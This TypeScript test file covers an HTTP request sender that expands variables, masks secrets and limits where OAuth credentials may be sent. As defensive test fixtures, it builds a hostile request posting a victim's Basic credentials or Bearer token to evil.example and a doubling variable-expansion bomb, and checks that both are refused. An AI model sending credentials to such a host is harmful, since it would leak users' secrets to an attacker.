import * as assert from 'node:assert/strict';
import { parseHttpFile } from '../../../../src/core/httpFile/parseHttpFile';
import { curlCommand } from '../../../../src/core/send/curlCommand';
import { MASK, responseDocumentText } from '../../../../src/core/send/responseDocument';
import {
  checkCredentialTargets,
  PreparedRequest,
  prepareSendRequest,
  renderSendRequest,
  secretValuesOf,
  SendRequestError,
} from '../../../../src/core/send/sendRequest';
import { MAX_EXPANDED_LENGTH, SendEnvironment } from '../../../../src/core/send/sendVariables';

const env: SendEnvironment = {
  processEnv: (name) => ({ API_HOST: 'api.example.com', EMPTY: '' })[name],
  dotenv: (name) => ({ TENANT: 't-42' })[name],
  now: () => Date.UTC(2026, 0, 2, 3, 4, 5),
  guid: () => '00000000-0000-4000-8000-000000000001',
};

function prepare(text: string, blockIndex = 0): PreparedRequest {
  const file = parseHttpFile(text);
  const blocks = file.blocks.filter((b) => b.request);
  return prepareSendRequest(file, blocks[blockIndex], env);
}

function failure(text: string): SendRequestError {
  try {
    prepare(text);
  } catch (err) {
    assert.ok(err instanceof SendRequestError, String(err));
    return err;
  }
  assert.fail('expected the request to be refused');
}

const profile = {
  label: 'Practice',
  token_endpoint: 'http://127.0.0.1:8642/oauth2/token',
  revocation_endpoint: 'http://127.0.0.1:8642/oauth2/revoke',
  introspection_endpoint: 'http://127.0.0.1:8642/oauth2/introspect',
  apiHosts: ['127.0.0.1:8642'],
};

describe('prepareSendRequest', () => {
  it('expands nested file variables, environment and system variables', () => {
    const prepared = prepare(
      [
        '@host = https://{{$processEnv API_HOST}}',
        '@base = {{host}}/v1/{{$dotenv TENANT}}',
        'POST {{base}}/items',
        '    ?a=1',
        '    &b=2',
        'X-Request-ID: {{$guid}}',
        'X-Time: {{$timestamp}} {{$datetime iso8601}}',
        'Content-Type: application/json',
        '',
        '{"id": "{{$uuid}}"}',
        '',
      ].join('\n'),
    );
    const sent = renderSendRequest(prepared, () => assert.fail('no auth'));
    assert.equal(sent.url, 'https://api.example.com/v1/t-42/items?a=1&b=2');
    assert.deepEqual(sent.headers, [
      ['X-Request-ID', '00000000-0000-4000-8000-000000000001'],
      ['X-Time', '1767323045 2026-01-02T03:04:05.000Z'],
      ['Content-Type', 'application/json'],
    ]);
    assert.equal(sent.body, '{"id": "00000000-0000-4000-8000-000000000001"}');
    assert.equal(prepared.shownUrl, 'https://{{$processEnv API_HOST}}/v1/{{$dotenv TENANT}}/items?a=1&b=2');
  });

  it('names an undefined variable and its line, and sends nothing', () => {
    const err = failure('GET https://api.example.com/\nAccept: text/plain\nX-Key: {{apiKey}}\n');
    assert.equal(err.code, 'SEND_UNRESOLVED_VARIABLE');
    assert.equal(err.line, 2);
    assert.match(err.message, /\{\{apiKey\}\} on line 3 is not defined/);
  });

  it('names the variable used through a file variable, at the line where the request uses it', () => {
    const err = failure('@a = {{b}}\n@b = x{{missing}}\n\nGET https://h.example/{{a}}\n');
    assert.equal(err.line, 3);
    assert.match(err.message, /\{\{missing\}\} on line 4 \(used through \{\{a\}\} → \{\{b\}\}\)/);
  });

  it('refuses an unset environment variable and an unknown system variable', () => {
    assert.match(
      failure('GET https://h.example/{{$processEnv NOPE}}\n').message,
      /NOPE\}\} on line 1 has no value/,
    );
    assert.equal(failure('GET https://h.example/{{$randomInt 1 2}}\n').code, 'SEND_UNSUPPORTED_VARIABLE');
    assert.equal(
      failure('GET https://h.example/{{$auth.password("p")}}\n').code,
      'SEND_UNSUPPORTED_VARIABLE',
    );
  });

  it('stops a variable that refers to itself and a chain that doubles at every step', () => {
    assert.match(failure('@a = x{{a}}\nGET https://h.example/{{a}}\n').message, /refers to itself/);
    const bomb = ['@v0 = ' + 'x'.repeat(64)];
    for (let i = 1; i < 40; i++) {
      bomb.push(`@v${i} = {{v${i - 1}}}{{v${i - 1}}}`);
    }
    bomb.push('GET https://h.example/', 'X-Big: {{v39}}', '');
    const started = Date.now();
    const err = failure(bomb.join('\n'));
    assert.equal(err.code, 'SEND_VARIABLE_LIMIT');
    assert.ok(Date.now() - started < 2000, 'the cap stops the expansion early');
    assert.ok(MAX_EXPANDED_LENGTH <= 1 << 20);
  });

  it('refuses a relative URL and a token in the URL', () => {
    assert.equal(failure('GET /relative/path\n').code, 'SEND_BAD_URL');
    assert.equal(failure('GET https://h.example/?t={{$auth.token("p")}}\n').code, 'SEND_CREDENTIAL_TARGET');
  });

  it('keeps $auth references as places, filled only when rendered, and shown as variables', () => {
    const prepared = prepare(
      [
        '@auth = Basic {{$auth.basic("practice")}}',
        'POST http://127.0.0.1:8642/oauth2/token',
        'Authorization: {{auth}}',
        'Content-Type: application/x-www-form-urlencoded',
        '',
        'grant_type=refresh_token&client_id={{$auth.clientId("practice")}}',
      ].join('\n'),
    );
    assert.deepEqual(prepared.auth, [
      { kind: 'basic', profileId: 'practice' },
      { kind: 'clientId', profileId: 'practice' },
    ]);
    const values = (ref: { kind: string }) => (ref.kind === 'basic' ? 'QkFTSUMtU0VDUkVU' : 'practice-client');
    const sent = renderSendRequest(prepared, values);
    assert.deepEqual(sent.headers[0], ['Authorization', 'Basic QkFTSUMtU0VDUkVU']);
    assert.equal(sent.body, 'grant_type=refresh_token&client_id=practice-client');
    assert.deepEqual(secretValuesOf(prepared, values), ['QkFTSUMtU0VDUkVU', 'practice-client']);
  });
});

describe('checkCredentialTargets', () => {
  const lookup = (id: string) => (id === 'practice' ? profile : undefined);

  it('lets client credentials go to the profile’s own token endpoint only', () => {
    const own = prepare(
      'POST http://127.0.0.1:8642/oauth2/token\nAuthorization: Basic {{$auth.basic("practice")}}\n',
    );
    checkCredentialTargets(own, lookup);
    const api = prepare(
      'GET http://127.0.0.1:8642/accounts\nAuthorization: Basic {{$auth.basic("practice")}}\n',
    );
    assert.throws(() => checkCredentialTargets(api, lookup), /may not go to this URL/);
  });

  it('refuses a hostile file that posts the victim’s credentials or token elsewhere', () => {
    for (const header of ['Basic {{$auth.basic("practice")}}', 'Bearer {{$auth.token("practice")}}']) {
      const hostile = prepare(`POST https://evil.example/oauth2/token\nAuthorization: ${header}\n`);
      assert.throws(
        () => checkCredentialTargets(hostile, lookup),
        (err: unknown) => err instanceof SendRequestError && err.code === 'SEND_CREDENTIAL_TARGET',
      );
    }
  });

  it('lets a token go to the profile’s API hosts, and names an unknown profile', () => {
    checkCredentialTargets(
      prepare('GET http://127.0.0.1:8642/api\nAuthorization: Bearer {{$auth.token("practice")}}\n'),
      lookup,
    );
    assert.throws(
      () =>
        checkCredentialTargets(prepare('GET http://127.0.0.1:8642/\nX: {{$auth.token("other")}}\n'), lookup),
      (err: unknown) => err instanceof SendRequestError && err.code === 'SEND_UNKNOWN_PROFILE',
    );
  });
});

describe('responseDocumentText', () => {
  it('shows the exchange with every secret masked and the answer under its request', () => {
    const prepared = prepare(
      [
        'POST http://127.0.0.1:8642/oauth2/token',
        'Authorization: Basic {{$auth.basic("practice")}}',
        'X-Api-Key: literal-key-123',
        'Content-Type: application/x-www-form-urlencoded',
        '',
        'grant_type=refresh_token&refresh_token=rt-literal-456&client_secret={{$processEnv API_HOST}}',
      ].join('\n'),
    );
    const text = responseDocumentText({
      request: prepared,
      status: 200,
      reason: 'OK',
      headers: { 'content-type': 'application/json', 'set-cookie': 'sid=cookie-789' },
      body: '{"access_token":"at-abc","refresh_token":"rt-def","expires_in":3600,"echo":"QkFTSUMtU0VDUkVU"}',
      elapsedMs: 12.4,
      sentAt: Date.UTC(2026, 0, 1),
      secrets: ['QkFTSUMtU0VDUkVU', 'api.example.com'],
    });
    for (const secret of [
      'literal-key-123',
      'rt-literal-456',
      'api.example.com',
      'cookie-789',
      'at-abc',
      'rt-def',
      'QkFTSUMtU0VDUkVU',
    ]) {
      assert.ok(!text.includes(secret), `${secret} leaked:\n${text}`);
    }
    assert.match(text, /^Authorization: Basic \{\{\$auth\.basic\("practice"\)\}\}$/m);
    assert.match(
      text,
      /grant_type=refresh_token&refresh_token=••••&client_secret=\{\{\$processEnv API_HOST\}\}/,
    );
    assert.match(text, /^HTTP\/1\.1 200 OK$/m);
    assert.match(text, /"expires_in": 3600/);
    assert.match(text, /answered in 12 ms/);
    assert.ok(text.includes(MASK));
  });
});

describe('curlCommand', () => {
  it('writes secrets as environment variable references', () => {
    const prepared = prepare(
      'GET http://127.0.0.1:8642/api?x=\'y\'\nAuthorization: Bearer {{$auth.token("practice-local")}}\n',
    );
    assert.equal(
      curlCommand(prepared),
      `curl -i -X 'GET' 'http://127.0.0.1:8642/api?x='\\''y'\\''' -H 'Authorization: ''Bearer '"$OAUTH_TOKEN_PRACTICE_LOCAL"`,
    );
  });
});
